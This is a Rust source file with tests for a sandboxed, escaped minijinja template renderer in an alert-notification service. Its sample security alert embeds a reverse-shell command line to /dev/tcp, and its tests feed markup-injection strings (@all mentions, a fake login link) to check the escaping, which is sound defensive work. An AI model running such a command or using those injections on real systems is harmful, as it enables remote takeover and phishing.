//! User message templates (minijinja). A contact's `template` replaces the
//! body of its single-alert messages; the title and footer stay Tocsin's.
//!
//! Sandbox: a fresh environment per render with a fuel (execution) limit, a
//! recursion limit, a cap on the output, strict undefined variables, and no
//! way to mark event text as safe. Every value the template prints goes
//! through the platform's escape, so a template can use markup but an event
//! value can never add a mention, a link or markup.

use super::MessageView;
use super::render;
use crate::config::{Channel, Contact, Lang, Level};
use crate::domain::MessageKind;
use crate::event::{Event, Format};
use minijinja::value::Value as JValue;
use minijinja::{AutoEscape, Environment, Error, ErrorKind, UndefinedBehavior};
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// Execution limit of one render.
pub const FUEL: u64 = 50_000;
/// Nesting limit (loops, macros, includes).
pub const RECURSION_LIMIT: usize = 32;
/// Most bytes a template may print (before the platform's own budget).
pub const OUTPUT_MAX: usize = 64 * 1024;
/// Longest template accepted in the config.
pub const SOURCE_MAX: usize = 16 * 1024;

/// Neutralizes Lark `lark_md` markup in untrusted text: `<at>` and `<font>`
/// tags, links, emphasis, strike-through, code and headings, by swapping in
/// look-alike characters.
pub fn lark_escape(s: &str) -> String {
    super::markup::lookalikes(s, super::markup::LARK, super::markup::Context::Template)
}

/// The escape of a platform's markup for values a template prints: the
/// template may put anything next to them, so each escaped value is inert
/// whatever surrounds it (no `[text](url)`, `<url|text>` or mention can be
/// completed by an adjacent value).
pub fn escaper(channel: Channel) -> fn(&str) -> String {
    match channel {
        Channel::Lark => lark_escape,
        Channel::Wecom => super::wecom::template_escape,
        Channel::Dingtalk => super::dingtalk::template_escape,
        Channel::Slack => super::slack::escape,
        Channel::Webhook => str::to_string,
    }
}

/// Whether a message of this kind uses the contact's template (single
/// alerts and their follow-ups; digests, tests and failure reports keep the
/// built-in rendering).
pub fn applies(kind: MessageKind, events: usize) -> bool {
    matches!(kind, MessageKind::Single | MessageKind::FollowUp) && events == 1
}

fn environment(channel: Channel) -> Environment<'static> {
    let mut env = Environment::new();
    env.set_debug(false);
    env.set_fuel(Some(FUEL));
    env.set_recursion_limit(RECURSION_LIMIT);
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    env.set_auto_escape_callback(|_| AutoEscape::Custom("tocsin".into()));
    let escape = escaper(channel);
    let written = Arc::new(AtomicUsize::new(0));
    // The platform's escape whatever the template says (`autoescape false`
    // changes nothing); only text the template itself produced is safe.
    env.set_formatter(move |out, _state, value| {
        let text = if value.is_safe() {
            value.as_str().unwrap_or_default().to_string()
        } else if value.is_none() || value.is_undefined() {
            return Ok(());
        } else {
            match value.as_str() {
                Some(s) => escape(s),
                None => escape(&value.to_string()),
            }
        };
        let total = written.fetch_add(text.len(), Ordering::Relaxed) + text.len();
        if total > OUTPUT_MAX {
            return Err(Error::new(
                ErrorKind::InvalidOperation,
                format!("the output is over {} KiB", OUTPUT_MAX / 1024),
            ));
        }
        out.write_str(&text).map_err(Error::from)
    });
    // No way to mark event text as safe: these return plain strings, which
    // the formatter escapes.
    for name in ["safe", "escape", "e"] {
        env.add_filter(name, |v: JValue| -> String {
            v.as_str().map_or_else(|| v.to_string(), str::to_string)
        });
    }
    env
}

/// An event's fields as templates see them: the native JSON form, with the
/// optional fields present (null when unknown).
fn event_value(e: &Event) -> Value {
    let mut v = e.to_native_json();
    if let Some(m) = v.as_object_mut() {
        for k in [
            "severity", "status", "resource", "instance", "region", "group",
        ] {
            m.entry(k).or_insert(Value::Null);
        }
    }
    v
}

/// The variables of a template.
pub fn context(msg: &MessageView<'_>) -> Value {
    let c = msg.contact;
    let first = msg.events.first();
    let level = msg
        .events
        .iter()
        .map(|e| e.level)
        .max()
        .unwrap_or(Level::Info);
    json!({
        "event": first.map(|e| event_value(e)),
        "events": msg.events.iter().map(|e| event_value(e)).collect::<Vec<_>>(),
        "count": msg.events.len(),
        "level": level.as_str(),
        "kind": msg.kind.as_str(),
        "contact": c.name,
        "subscriptions": msg.subscriptions,
        "lang": c.lang.as_str(),
        "time": first.map(|e| render::local_time(e.time_ms, &c.timezone)),
        "link": first.and_then(|e| render::event_link(msg.public_url, e)),
    })
}

/// The template's variables as minijinja values. `link` is Tocsin's own
/// (from `server.public_url`, the event id percent-encoded), so it is marked
/// safe: printed as is, it stays a working link.
fn values(msg: &MessageView<'_>) -> JValue {
    let link = msg
        .events
        .first()
        .and_then(|e| render::event_link(msg.public_url, e))
        .map_or(JValue::from(()), JValue::from_safe_string);
    minijinja::context! {
        link => link,
        ..JValue::from(minijinja::value::Serde(context(msg)))
    }
}

/// Plain words for a template error, with the template's line.
pub fn describe(e: &Error, source: &str) -> String {
    let snippet = e
        .range()
        .and_then(|r| source.get(r))
        .map(|s| s.trim())
        .filter(|s| !s.is_empty() && s.len() <= 80 && !s.contains('\n'));
    let what = match e.kind() {
        ErrorKind::OutOfFuel => {
            "it ran out of fuel (the execution limit): it does too much work".to_string()
        }
        ErrorKind::UndefinedError => match (snippet, e.detail()) {
            (Some(s), _) => format!("undefined variable or attribute in `{s}`"),
            (None, Some(d)) => format!("undefined variable or attribute: {d}"),
            (None, None) => "undefined variable or attribute".to_string(),
        },
        kind => match e.detail() {
            Some(d) => format!("{kind}: {d}"),
            None => kind.to_string(),
        },
    };
    match e.line() {
        Some(l) => format!("{what} (at its line {l})"),
        None => what,
    }
}

/// Renders the contact's template for a message, escaped for the platform.
pub fn render(source: &str, msg: &MessageView<'_>) -> Result<String, String> {
    let env = environment(msg.contact.channel);
    env.render_str(source, values(msg))
        .map(|s| s.trim_end().to_string())
        .map_err(|e| describe(&e, source))
}

/// A problem found when checking a template at config load.
#[derive(Clone, Debug, PartialEq)]
pub struct Problem {
    /// The template's own line (1-based), when known.
    pub line: Option<usize>,
    pub message: String,
}

/// A realistic single alert (Alibaba Cloud Security Center) for checking
/// templates at load.
pub fn sample_event() -> Event {
    let content = json!({
        "alarmEventName": "Reverse shell",
        "alarmEventType": "Process anomaly",
        "alarmUniqueInfo": "6b1f3c2e9a7d4e0f8c5b",
        "instanceName": "web-prod-01",
        "intranetIp": "10.0.3.17",
        "internetIp": "47.96.12.34",
        "uuid": "inst-9f8e7d6c",
        "level": "serious",
        "desc": "A process opened a reverse shell to an external host",
        "details": [
            {"name": "Command line", "value": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"},
            {"name": "Parent process", "value": "/usr/sbin/nginx"},
            {"name": "User", "value": "www-data"}
        ]
    });
    Event {
        id: "0190f3a2-6d1e-7c4b-9a2f-3e5d7c9b1a20".into(),
        product: "sas".into(),
        event_type: "sas:alert".into(),
        name: "Sas:SecurityAlert".into(),
        level: Level::Critical,
        severity: Some("serious".into()),
        status: Some("unhandled".into()),
        resource: Some("acs:ecs:cn-hangzhou:1234567890:instance/i-bp1example".into()),
        instance: Some("web-prod-01".into()),
        region: Some("cn-hangzhou".into()),
        group: Some("web".into()),
        time_ms: 1_717_000_000_000,
        received_ms: 1_717_000_001_000,
        content: content.clone(),
        format: Format::Native,
        raw: content,
    }
}

/// Compiles a template, then renders it once against a sample alert with
/// strict undefined variables, for the contact's channel.
pub fn check(source: &str, contact: &Contact) -> Result<(), Problem> {
    if source.len() > SOURCE_MAX {
        return Err(Problem {
            line: None,
            message: format!("the template is over {} KiB", SOURCE_MAX / 1024),
        });
    }
    let env = environment(contact.channel);
    if let Err(e) = env.template_from_str(source) {
        let detail = e.detail().unwrap_or("cannot parse it").to_string();
        return Err(Problem {
            line: e.line(),
            message: match e.line() {
                Some(l) => format!("syntax error in the template at its line {l}: {detail}"),
                None => format!("syntax error in the template: {detail}"),
            },
        });
    }
    let events = [Arc::new(sample_event())];
    let subs = ["sample-subscription".to_string()];
    let msg = MessageView {
        id: "sample",
        kind: MessageKind::Single,
        contact,
        subscriptions: &subs,
        events: &events,
        public_url: Some("https://tocsin.example.com"),
        note: None,
        template: None,
    };
    match env.render_str(source, values(&msg)) {
        Ok(_) => Ok(()),
        Err(e) => Err(Problem {
            line: e.line(),
            message: format!(
                "the template fails on a sample alert: {}",
                describe(&e, source)
            ),
        }),
    }
}

/// The line added to the built-in rendering when the template failed.
pub fn failure_line(reason: &str, lang: Lang) -> String {
    match lang {
        Lang::En => format!("(the contact's template failed: {reason})"),
        Lang::Zh => format!("（联系人模板渲染失败：{reason}）"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Mentions;

    fn contact(channel: Channel, template: &str) -> Contact {
        Contact {
            name: "c".into(),
            channel,
            webhook: "http://127.0.0.1:1/x".into(),
            headers: vec![],
            secret: String::new(),
            concurrency: 1,
            rate_limit_rest: None,
            rate_limit: vec![],
            keywords: vec![],
            mentions: Mentions::default(),
            lang: Lang::En,
            timezone: "Asia/Shanghai".into(),
            template: Some(template.into()),
            line: 1,
        }
    }

    fn hostile() -> Event {
        let mut e = sample_event();
        e.name =
            "<@all> [x](http://evil) **b** ~~s~~ `c` # h <at id=all></at> &lt;@all&gt; <!channel>"
                .into();
        e
    }

    fn render_for(channel: Channel, template: &str, e: Event) -> Result<String, String> {
        let c = contact(channel, template);
        let events = [Arc::new(e)];
        let msg = MessageView {
            id: "m",
            kind: MessageKind::Single,
            contact: &c,
            subscriptions: &[],
            events: &events,
            public_url: None,
            note: None,
            template: None,
        };
        render(template, &msg)
    }

    #[test]
    fn hostile_values_are_escaped_per_platform() {
        // Each way a template might try to print the value raw.
        for t in [
            "**{{ event.name }}**",
            "{{ event.name | safe }}",
            "{{ event.name | e }}",
            "{% autoescape false %}{{ event.name }}{% endautoescape %}",
            "{% set x %}{{ event.name }}{% endset %}{{ x }}",
            "{% macro m(v) %}{{ v }}{% endmacro %}{{ m(event.name) }}",
            "{{ events[0].name ~ '' }}",
        ] {
            for ch in [Channel::Lark, Channel::Wecom, Channel::Dingtalk] {
                let out = render_for(ch, t, hostile()).unwrap();
                let body = out.trim_start_matches("**").trim_end_matches("**");
                assert!(!body.contains('<'), "{ch:?} {t}: {out}");
                assert!(!body.contains("]("), "{ch:?} {t}: {out}");
                assert!(!body.contains('*'), "{ch:?} {t}: {out}");
                assert!(!body.contains('`'), "{ch:?} {t}: {out}");
            }
            let out = render_for(Channel::Slack, t, hostile()).unwrap();
            assert!(
                !out.contains("<@") && !out.contains("<!"),
                "slack {t}: {out}"
            );
        }
        // The template's own markup stays.
        let out = render_for(Channel::Wecom, "**{{ event.name }}**", hostile()).unwrap();
        assert!(out.starts_with("**＜@all＞ ［x］（hxxp://evil)"), "{out}");
        // The example: adjacent values never form a link.
        let mut e = hostile();
        e.name = "[Resolved - click here]".into();
        e.instance = Some("http://evil.example/login".into());
        for ch in [Channel::Wecom, Channel::Dingtalk, Channel::Lark] {
            let out = render_for(ch, "{{ event.name }}({{ event.instance }})", e.clone()).unwrap();
            assert!(
                !out.contains("](") && !out.contains("http://"),
                "{ch:?}: {out}"
            );
        }
        // Tocsin's own link stays a working link.
        let c = contact(Channel::Wecom, "[Open]({{ link }})");
        let events = [Arc::new(hostile())];
        let msg = MessageView {
            id: "m",
            kind: MessageKind::Single,
            contact: &c,
            subscriptions: &[],
            events: &events,
            public_url: Some("https://tocsin.example.com"),
            note: None,
            template: None,
        };
        assert_eq!(
            render("[Open]({{ link }})", &msg).unwrap(),
            "[Open](https://tocsin.example.com/api/v1/events/0190f3a2-6d1e-7c4b-9a2f-3e5d7c9b1a20)"
        );
        let out = render_for(Channel::Lark, "{{ event.name }}", hostile()).unwrap();
        assert!(!out.contains('~') && !out.contains('['), "{out}");
    }

    #[test]
    fn variables() {
        let t = "{{ event.product }}|{{ count }}|{{ level }}|{{ kind }}|{{ contact }}|{{ lang }}|{{ time }}|{{ link }}|{{ event.content.intranetIp }}";
        let out = render_for(Channel::Wecom, t, sample_event()).unwrap();
        assert_eq!(
            out,
            "sas|1|critical|single|c|en|2024-05-30 00:26:40 CST||10.0.3.17"
        );
        // Absent optional fields are null, printed as nothing.
        let mut e = sample_event();
        e.region = None;
        assert_eq!(
            render_for(Channel::Wecom, "[{{ event.region }}]", e).unwrap(),
            "[]"
        );
    }

    #[test]
    fn strict_undefined() {
        let err = render_for(Channel::Wecom, "a\n{{ event.nmae }}", sample_event()).unwrap_err();
        assert!(err.contains("undefined") && err.contains("line 2"), "{err}");
        let err = render_for(Channel::Wecom, "{{ evnt }}", sample_event()).unwrap_err();
        assert!(err.contains("undefined"), "{err}");
    }

    #[test]
    fn fuel_and_output_limits() {
        let err = render_for(
            Channel::Wecom,
            "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
            sample_event(),
        )
        .unwrap_err();
        assert!(err.contains("fuel"), "{err}");
        let err = render_for(
            Channel::Wecom,
            "{% set s = 'x' * 100000 %}{% for i in range(10) %}{{ s }}{% endfor %}",
            sample_event(),
        )
        .unwrap_err();
        assert!(err.contains("KiB"), "{err}");
        let err = render_for(
            Channel::Wecom,
            "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}",
            sample_event(),
        )
        .unwrap_err();
        assert!(!err.is_empty());
    }

    #[test]
    fn check_reports_syntax_and_unknown_variables() {
        let c = contact(Channel::Wecom, "");
        let p = check("a\nb\n{% if %}", &c).unwrap_err();
        assert_eq!(p.line, Some(3));
        assert!(
            p.message
                .contains("syntax error in the template at its line 3"),
            "{}",
            p.message
        );
        let p = check("{{ event.nmae }}", &c).unwrap_err();
        assert!(p.message.contains("undefined"), "{}", p.message);
        check("**{{ event.name }}** on {{ event.content.instanceName }} at {{ time }}{% if link %} [view]({{ link }}){% endif %}", &c).unwrap();
    }

    #[test]
    fn lark_escape_breaks_markup() {
        let e = lark_escape("<at id=all></at> [a](http://x) **b** ~~c~~ `d` # e &lt;");
        for bad in ['<', '>', '[', '*', '~', '`', '#', '&'] {
            assert!(!e.contains(bad), "{e}");
        }
    }

    fn view_render(c: &Contact, e: Event) -> (render::Doc, Vec<u8>) {
        let events = [Arc::new(e)];
        let subs = ["feed".to_string()];
        let msg = MessageView {
            id: "m",
            kind: MessageKind::Single,
            contact: c,
            subscriptions: &subs,
            events: &events,
            public_url: None,
            note: None,
            template: None,
        };
        let doc = render::document(&msg);
        let out = super::super::notifier_for(c.channel)
            .render(&msg, 1_700_000_000_000)
            .unwrap();
        (doc, out.out.body)
    }

    #[test]
    fn a_failing_template_falls_back_to_the_built_in_message() {
        let t = "{% for i in range(90000) %}{% for j in range(90000) %}{% endfor %}{% endfor %}";
        for ch in [
            Channel::Lark,
            Channel::Wecom,
            Channel::Dingtalk,
            Channel::Slack,
        ] {
            let c = contact(ch, t);
            let (doc, body) = view_render(&c, sample_event());
            assert!(doc.body.is_none());
            let last = doc.sections.last().unwrap().line.clone().unwrap();
            assert!(
                last.starts_with("(the contact's template failed: it ran out of fuel"),
                "{last}"
            );
            // The built-in fields are all there.
            assert!(doc.sections[0].fields.len() > 3, "{doc:?}");
            let body = String::from_utf8(body).unwrap();
            assert!(body.contains("template failed"), "{ch:?}: {body}");
        }
    }

    #[test]
    fn digests_keep_the_built_in_rendering() {
        let c = contact(Channel::Wecom, "custom {{ event.name }}");
        let events = [Arc::new(sample_event()), Arc::new(sample_event())];
        let msg = MessageView {
            id: "m",
            kind: MessageKind::Digest,
            contact: &c,
            subscriptions: &[],
            events: &events,
            public_url: None,
            note: None,
            template: None,
        };
        let doc = render::document(&msg);
        // Four summary lines, then one line per event.
        assert!(doc.body.is_none() && doc.sections.len() == 6, "{doc:?}");
    }

    #[test]
    fn long_output_is_cut_to_the_platform_budget() {
        let t = "{% for i in range(3000) %}{{ event.name }} é {% endfor %}";
        for (ch, max) in [
            (Channel::Wecom, 8192),
            (Channel::Dingtalk, 20_000),
            (Channel::Lark, 20_000),
            (Channel::Slack, 11_000),
        ] {
            let mut c = contact(ch, t);
            c.keywords = vec!["告警".into()];
            let (_, body) = view_render(&c, sample_event());
            assert!(body.len() <= max, "{ch:?}: {}", body.len());
            let v: Value = serde_json::from_slice(&body).unwrap();
            let text = v.to_string();
            assert!(text.contains("the message was cut"), "{ch:?}: {text}");
            assert!(text.contains("告警"), "keyword kept: {ch:?}");
            if ch == Channel::Wecom {
                let md = v["markdown"]["content"].as_str().unwrap();
                assert!(
                    md.len() <= 4096 && md.contains("Sas:SecurityAlert é"),
                    "{md}"
                );
            }
        }
    }
}
